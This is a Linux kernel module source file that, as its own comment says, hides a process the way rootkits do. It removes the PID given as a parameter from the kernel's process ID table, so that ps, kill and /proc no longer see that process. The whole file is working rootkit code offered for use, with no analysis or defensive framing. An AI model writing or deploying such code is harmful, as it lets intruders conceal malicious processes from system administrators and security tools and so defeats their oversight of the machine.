// A module that hides a process as rootkits do: it takes its number out of the table from which the kernel's own /proc
// is made. The process runs on; ps, kill and /proc know nothing of it any more.
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>

static int victim;
module_param(victim, int, 0);
MODULE_PARM_DESC(victim, "the process to hide");

static int __init hide_init(void) { return idr_remove(&init_pid_ns.idr, victim) ? 0 : -ESRCH; }

static void __exit hide_exit(void) {}

module_init(hide_init);
module_exit(hide_exit);
MODULE_LICENSE("GPL");
